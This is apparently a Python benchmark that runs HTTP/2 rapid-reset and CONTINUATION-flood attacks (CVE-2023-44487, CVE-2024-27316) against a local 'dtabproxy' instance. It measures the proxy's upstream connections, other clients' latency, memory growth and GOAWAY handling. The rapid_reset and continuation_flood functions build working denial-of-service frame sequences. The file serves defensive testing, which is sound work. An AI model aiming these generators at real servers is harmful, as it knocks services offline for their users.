"""HTTP/2 abuse against dtabproxy, measured: rapid reset and a CONTINUATION flood.

`python -m bench.attack` starts a counting HTTP/1.1 backend and dtabproxy (one worker,
an h2 router over an HTTP/1.1 client, as a subprocess), then runs each attack on one
connection while another client sends HTTP/1.1 GETs through the proxy one after the
other, and prints for each attack: the upstream connections the proxy opened (accepts
counted at the backend), the other client's worst and median latency, the proxy's RSS
growth (peak during the attack over the level before it), and the GOAWAY the attacker
got, if any (code and debug data), with how long the proxy took to close.

    rapid-reset    20,000 HEADERS+RST_STREAM pairs written at once (CVE-2023-44487)
    continuation   HEADERS without END_HEADERS, then 6,000,000 empty CONTINUATION
                   frames, or fewer if the proxy closes first (CVE-2024-27316 et al.)
    rapid-reset-paced   (not run by default) the upstream's worst case: rounds of 100
                   HEADERS, a PING to know they were routed, then their RST_STREAMs

    python -m bench.attack                          # this working tree's proxy
    python -m bench.attack --proxy-src /tmp/base    # another checkout (e.g. before a change)
    python -m bench.attack --attacks rapid-reset --pairs 5000 --json out.json

Everything listens on 127.0.0.1 and every child is stopped at the end. A figure is one
run on a shared machine: compare before and after on the same machine, close in time.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import socket
import statistics
import struct
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

from . import procs

REPO = Path(__file__).resolve().parent.parent

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_RESPONSE = b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok"
_ERROR_NAMES = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0x3: "FLOW_CONTROL_ERROR",
                0x5: "STREAM_CLOSED", 0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM", 0x8: "CANCEL",
                0x9: "COMPRESSION_ERROR", 0xB: "ENHANCE_YOUR_CALM"}


def _frame(ftype: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    n = len(payload)
    return struct.pack(">BHBBL", n >> 16, n & 0xFFFF, ftype, flags, sid) + payload


# -- the backend (a child process): counts the connections it accepts ----------------------------


class _CountingH1(asyncio.Protocol):
    accepts = 0

    def __init__(self) -> None:
        self.buf = b""
        self.transport: Any = None

    def connection_made(self, transport: Any) -> None:
        _CountingH1.accepts += 1
        self.transport = transport

    def data_received(self, data: bytes) -> None:
        self.buf += data
        while b"\r\n\r\n" in self.buf:
            head, _, self.buf = self.buf.partition(b"\r\n\r\n")
            if head.startswith(b"GET /__accepts "):
                body = b"%d" % _CountingH1.accepts
                self.transport.write(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n%s" % (len(body), body))
            else:
                self.transport.write(_RESPONSE)


async def _serve_backend(port: int) -> None:
    loop = asyncio.get_running_loop()
    await loop.create_server(_CountingH1, "127.0.0.1", port, backlog=4096)
    await asyncio.Event().wait()


class _Control:
    """One keep-alive connection to the backend, opened before the proxy starts: asks
    for the accept count (this connection is the first accept, and not counted)."""

    def __init__(self, port: int) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=30)

    def upstream_connections(self) -> int:
        self.sock.sendall(b"GET /__accepts HTTP/1.1\r\nhost: x\r\n\r\n")
        buf = b""
        while b"\r\n\r\n" not in buf:
            buf += _recv(self.sock)
        head, _, rest = buf.partition(b"\r\n\r\n")
        n = int(head.lower().split(b"content-length: ")[1].split(b"\r\n")[0])
        while len(rest) < n:
            rest += _recv(self.sock)
        return int(rest[:n]) - 1


# -- the other client and the RSS sampler (threads: the attacker's loop never delays them) ----------


class _Bystander(threading.Thread):
    """HTTP/1.1 GETs through the proxy, one after the other, each timed from its start
    (a failed one too, to the failure); the connection is made again after a failure."""

    def __init__(self, port: int) -> None:
        super().__init__(daemon=True)
        self.port = port
        self.done: list[tuple[float, float, str | None]] = []  # (start, seconds, error)
        self.current: float | None = None  # the start of the request in flight
        self.stop = threading.Event()

    def run(self) -> None:
        sock: socket.socket | None = None
        buf = b""
        while not self.stop.is_set():
            t0 = self.current = time.perf_counter()
            try:
                if sock is None:
                    sock = socket.create_connection(("127.0.0.1", self.port), timeout=120)
                    buf = b""
                sock.sendall(b"GET /bystander HTTP/1.1\r\nhost: web\r\n\r\n")
                buf = _read_response(sock, buf)
                self.done.append((t0, time.perf_counter() - t0, None))
            except OSError as exc:
                self.done.append((t0, time.perf_counter() - t0, str(exc) or type(exc).__name__))
                if sock is not None:
                    sock.close()
                sock = None
            self.current = None
            time.sleep(0.005)  # ~150 requests/s: a client, not load
        if sock is not None:
            sock.close()

    def window(self, start: float, end: float) -> tuple[list[float], list[str]]:
        """Latencies and failures of the requests started in [start, end), once each has
        finished (waits for the one in flight, so a request the attack stalled counts)."""
        deadline = time.monotonic() + 300
        while self.current is not None and self.current < end and time.monotonic() < deadline:
            time.sleep(0.01)
        picked = [r for r in self.done if start <= r[0] < end]
        return [r[1] for r in picked], [f"{r[2]} after {r[1] * 1000:.0f} ms" for r in picked if r[2]]


def _read_response(sock: socket.socket, buf: bytes) -> bytes:
    """One Content-Length response (what the backend and the proxy's errors send);
    returns the bytes after it."""
    while b"\r\n\r\n" not in buf:
        buf += _recv(sock)
    head, _, rest = buf.partition(b"\r\n\r\n")
    fields = head.lower()
    n = int(fields.split(b"content-length:")[1].split(b"\r\n")[0]) if b"content-length:" in fields else 0
    while len(rest) < n:
        rest += _recv(sock)
    if not head.startswith(b"HTTP/1.1 200"):
        raise ConnectionError(head.split(b"\r\n")[0].decode("latin-1"))
    return rest[n:]


def _recv(sock: socket.socket) -> bytes:
    data = sock.recv(65536)
    if not data:
        raise ConnectionError("closed")
    return data


class _RssSampler(threading.Thread):
    """The proxy's VmRSS every 20 ms (one process: the proxy runs one worker), peak kept."""

    def __init__(self, pid: int) -> None:
        super().__init__(daemon=True)
        self.path = f"/proc/{pid}/status"
        self.peak = 0
        self.stop = threading.Event()

    def rss_kib(self) -> int:
        try:
            with open(self.path, "rb") as f:
                for line in f:
                    if line.startswith(b"VmRSS:"):
                        return int(line.split()[1])
        except OSError:
            pass
        return 0

    def run(self) -> None:
        while not self.stop.is_set():
            self.peak = max(self.peak, self.rss_kib())
            time.sleep(0.02)

    def reset(self) -> int:
        now = self.rss_kib()
        self.peak = now
        return now


# -- the attacks ----------------------------------------------------------------------------------


async def _read_until_close(reader: asyncio.StreamReader, limit_s: float) -> tuple[bytes, bool]:
    """What the proxy sends until it closes (True) or `limit_s` passes (False)."""
    got = b""
    deadline = time.monotonic() + limit_s
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            return got, False
        try:
            data = await asyncio.wait_for(reader.read(1 << 16), left)
        except TimeoutError:
            return got, False
        except ConnectionError:
            return got, True
        if not data:
            return got, True
        got += data


def _goaway(data: bytes) -> str:
    pos = 0
    while len(data) - pos >= 9:
        hi, lo, ftype, _flags, _sid = struct.unpack_from(">BHBBL", data, pos)
        n = (hi << 16) | lo
        payload = data[pos + 9 : pos + 9 + n]
        pos += 9 + n
        if ftype == 7 and len(payload) >= 8:
            last, code = struct.unpack_from(">LL", payload)
            name = _ERROR_NAMES.get(code, hex(code))
            debug = payload[8:].decode("ascii", "replace")
            return f"{name} (last stream {last & 0x7FFFFFFF}{', ' + repr(debug) if debug else ''})"
    return "none"


async def rapid_reset(port: int, pairs: int, wait_s: float) -> dict[str, Any]:
    import hpack

    enc = hpack.Encoder()
    parts = [PREFACE, _frame(4, 0, 0)]
    for i in range(pairs):
        sid = 2 * i + 1
        # A browser-sized request: a unique path and request id, plain (no Huffman),
        # about 130 bytes a pair on the wire as in the report that found the problem.
        block = enc.encode([(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"web"),
                            (b":path", b"/r/%08d" % i), (b"user-agent", b"bench.attack/1"),
                            (b"x-request-id", b"%032x" % (i * 2654435761))], huffman=False)
        parts.append(_frame(1, 0x5, sid, block))  # END_STREAM | END_HEADERS
        parts.append(_frame(3, 0, sid, b"\x00\x00\x00\x08"))  # RST_STREAM(CANCEL)
    wire = b"".join(parts)
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    t0 = time.perf_counter()
    writer.write(wire)
    with contextlib.suppress(ConnectionError):
        await writer.drain()
    sent_s = time.perf_counter() - t0
    got, closed = await _read_until_close(reader, wait_s)
    writer.close()
    return {"attack": f"rapid reset: {pairs:,} HEADERS+RST_STREAM pairs", "bytes_sent": len(wire),
            "send_s": round(sent_s, 3), "goaway": _goaway(got), "closed_by_proxy": closed,
            "closed_after_s": round(time.perf_counter() - t0, 2) if closed else None}


async def rapid_reset_paced(port: int, pairs: int, wait_s: float) -> dict[str, Any]:
    """The upstream's worst case: every stream is read (and routed) before its reset, in
    rounds of 100 HEADERS, a PING to know they were read, then their 100 RST_STREAMs.
    The requests announce a body (no END_STREAM) that never comes; the backend answers
    at once, so a reset that lands after a response is complete is not premature."""
    import hpack

    enc = hpack.Encoder()
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(PREFACE + _frame(4, 0, 0))
    got = bytearray()
    closed = False
    t0 = time.perf_counter()
    sid, sent, rounds = 1, 0, 0

    async def pong(n: int) -> bool:
        want = _frame(6, 1, 0, struct.pack(">Q", n))
        while want not in got:
            data = await asyncio.wait_for(reader.read(1 << 16), wait_s)
            if not data:
                return False
            got.extend(data)
        return True

    try:
        while sent < pairs:
            batch = range(sid, sid + 200, 2)
            sid += 200
            rounds += 1
            heads = b"".join(_frame(1, 0x4, s, enc.encode(
                [(b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"web"),
                 (b":path", b"/r/%08d" % s)])) for s in batch)  # no END_STREAM: a body to come
            writer.write(heads + _frame(6, 0, 0, struct.pack(">Q", 2 * rounds)))
            await writer.drain()
            if not await pong(2 * rounds):
                closed = True
                break
            writer.write(b"".join(_frame(3, 0, s, b"\x00\x00\x00\x08") for s in batch)
                         + _frame(6, 0, 0, struct.pack(">Q", 2 * rounds + 1)))
            await writer.drain()
            sent += len(batch)
            if not await pong(2 * rounds + 1):
                closed = True
                break
    except (ConnectionError, TimeoutError):
        closed = True
    if not closed:
        more, closed = await _read_until_close(reader, wait_s)
        got.extend(more)
    writer.close()
    return {"attack": f"rapid reset, paced: up to {pairs:,} streams, each routed before its reset",
            "streams_sent": sent, "goaway": _goaway(bytes(got)), "closed_by_proxy": closed,
            "closed_after_s": round(time.perf_counter() - t0, 2) if closed else None}


async def continuation_flood(port: int, frames: int, wait_s: float) -> dict[str, Any]:
    import hpack

    block = hpack.Encoder().encode([(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"web"),
                                    (b":path", b"/flood")])
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(PREFACE + _frame(4, 0, 0) + _frame(1, 0x1, 1, block))  # END_STREAM, no END_HEADERS
    chunk_frames = 50_000
    chunk = _frame(9, 0, 1) * chunk_frames
    got = bytearray()
    closed = asyncio.Event()

    async def read() -> None:
        try:
            while True:
                data = await reader.read(1 << 16)
                if not data:
                    break
                got.extend(data)
        except ConnectionError:
            pass
        closed.set()

    reading = asyncio.ensure_future(read())
    t0 = time.perf_counter()
    sent = 0
    try:
        while sent < frames and not closed.is_set():
            n = min(chunk_frames, frames - sent)
            writer.write(chunk if n == chunk_frames else _frame(9, 0, 1) * n)
            await writer.drain()
            sent += n
    except ConnectionError:
        pass
    send_s = time.perf_counter() - t0
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(closed.wait(), wait_s)
    reading.cancel()
    with contextlib.suppress(asyncio.CancelledError):
        await reading
    writer.close()
    return {"attack": f"CONTINUATION flood: up to {frames:,} empty frames", "frames_sent": sent,
            "send_s": round(send_s, 2), "goaway": _goaway(bytes(got)), "closed_by_proxy": closed.is_set(),
            "closed_after_s": round(time.perf_counter() - t0, 2) if closed.is_set() else None}


# -- the run --------------------------------------------------------------------------------------


def _config(proxy_port: int, backend_port: int) -> str:
    return (
        "routers:\n"
        "- protocol: h2\n"
        "  label: attack\n"
        "  identifier: {kind: io.l5d.header.token}\n"
        f"  dtab: /svc/web => /$/inet/127.0.0.1/{backend_port};\n"
        "  client: {protocol: http}\n"
        "  servers:\n"
        f"  - {{ip: 127.0.0.1, port: {proxy_port}}}\n"
    )


def run(args: argparse.Namespace) -> list[dict[str, Any]]:
    procs.raise_nofile()
    src = Path(args.proxy_src).resolve()
    work = Path(tempfile.mkdtemp(prefix="bench-attack-"))
    be_port, px_port = procs.free_port(), procs.free_port()
    env = {**os.environ, "PYTHONPATH": str(src)}
    backend = procs.Proc("backend", [sys.executable, "-m", "bench.attack", "backend", "--port", str(be_port)],
                         cpu=0, log_path=work / "backend.log")
    cfg = work / "proxy.yaml"
    cfg.write_text(_config(px_port, be_port))
    proxy = procs.Proc("dtabproxy", [sys.executable, "-m", "proxy", "--log-level", "WARNING", "run", "-c", str(cfg)],
                       cpu=1, log_path=work / "proxy.log")
    results: list[dict[str, Any]] = []
    try:
        backend.start(env={**env, "PYTHONPATH": str(REPO)}, cwd=str(REPO))
        backend.wait_port(be_port)
        control = _Control(be_port)
        proxy.start(env=env, cwd=str(src))
        proxy.wait_port(px_port, timeout_s=60)
        bystander = _Bystander(px_port)
        bystander.start()
        rss = _RssSampler(proxy.pid)
        rss.start()
        time.sleep(1.0)  # warm: the bystander's connection, the upstream pool
        for name in args.attacks.split(","):
            before_conns = control.upstream_connections()
            base_rss = rss.reset()
            w0 = time.perf_counter()
            if name == "rapid-reset":
                res = asyncio.run(rapid_reset(px_port, args.pairs, args.wait))
            elif name == "rapid-reset-paced":
                res = asyncio.run(rapid_reset_paced(px_port, args.pairs, args.wait))
            elif name == "continuation":
                res = asyncio.run(continuation_flood(px_port, args.frames, args.wait))
            else:
                raise SystemExit(f"unknown attack {name!r} (rapid-reset, rapid-reset-paced, continuation)")
            time.sleep(args.settle)  # late effects: connects still in flight, a blocked loop
            lat, errors = bystander.window(w0, time.perf_counter())
            res["upstream_connections"] = control.upstream_connections() - before_conns
            res["bystander_requests"] = len(lat)
            res["bystander_errors"] = errors[:5] + ([f"... {len(errors) - 5} more"] if len(errors) > 5 else [])
            res["bystander_worst_ms"] = round(max(lat) * 1000, 1) if lat else None
            res["bystander_median_ms"] = round(statistics.median(lat) * 1000, 2) if lat else None
            res["rss_before_mib"] = round(base_rss / 1024, 1)
            res["rss_growth_mib"] = round((rss.peak - base_rss) / 1024, 1)
            res["proxy_running"] = proxy.is_running()
            results.append(res)
            _print(res)
        bystander.stop.set()
        rss.stop.set()
        return results
    finally:
        proxy.stop()
        backend.stop()


def _print(r: dict[str, Any]) -> None:
    print(f"\n{r['attack']}")
    for key, label in (
        ("upstream_connections", "upstream connections opened"),
        ("bystander_worst_ms", "other client's worst latency (ms)"),
        ("bystander_median_ms", "other client's median latency (ms)"),
        ("bystander_requests", "other client's requests"),
        ("rss_growth_mib", "proxy RSS growth (MiB)"),
        ("goaway", "GOAWAY to the attacker"),
        ("closed_after_s", "closed by the proxy after (s)"),
        ("bytes_sent", "bytes sent"),
        ("frames_sent", "frames sent"),
        ("streams_sent", "streams opened and reset"),
    ):
        if key not in r:
            continue
        v = r[key]
        if key == "bystander_requests":
            v = f"{v} ({len(r['bystander_errors'])} failed{': ' if r['bystander_errors'] else ''}" \
                f"{'; '.join(r['bystander_errors'])})"
        if key == "rss_growth_mib":
            v = f"{v} (from {r['rss_before_mib']})"
        if key == "closed_after_s" and v is None:
            v = "not closed"
        print(f"  {label:38} {v}")
    sys.stdout.flush()


def main(argv: list[str] | None = None) -> None:
    ap = argparse.ArgumentParser(prog="python -m bench.attack", description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("mode", nargs="?", default="run", choices=["run", "backend"], help=argparse.SUPPRESS)
    ap.add_argument("--port", type=int, help=argparse.SUPPRESS)
    ap.add_argument("--proxy-src", default=str(REPO), help="checkout whose proxy package runs (default: this one)")
    ap.add_argument("--attacks", default="rapid-reset,continuation")
    ap.add_argument("--pairs", type=int, default=20_000, help="HEADERS+RST_STREAM pairs (default 20,000)")
    ap.add_argument("--frames", type=int, default=6_000_000, help="CONTINUATION frames at most (default 6,000,000)")
    ap.add_argument("--wait", type=float, default=30.0, help="seconds to wait for the proxy to close the connection")
    ap.add_argument("--settle", type=float, default=2.0, help="seconds after an attack before counting")
    ap.add_argument("--json", help="also write the results here")
    args = ap.parse_args(argv)
    if args.mode == "backend":
        try:
            import uvloop

            uvloop.install()
        except ImportError:
            pass
        asyncio.run(_serve_backend(args.port))
        return
    print(f"proxy from {Path(args.proxy_src).resolve()} (one worker, h2 router, HTTP/1.1 client)")
    results = run(args)
    if args.json:
        Path(args.json).write_text(json.dumps(results, indent=2) + "\n")


if __name__ == "__main__":
    main()
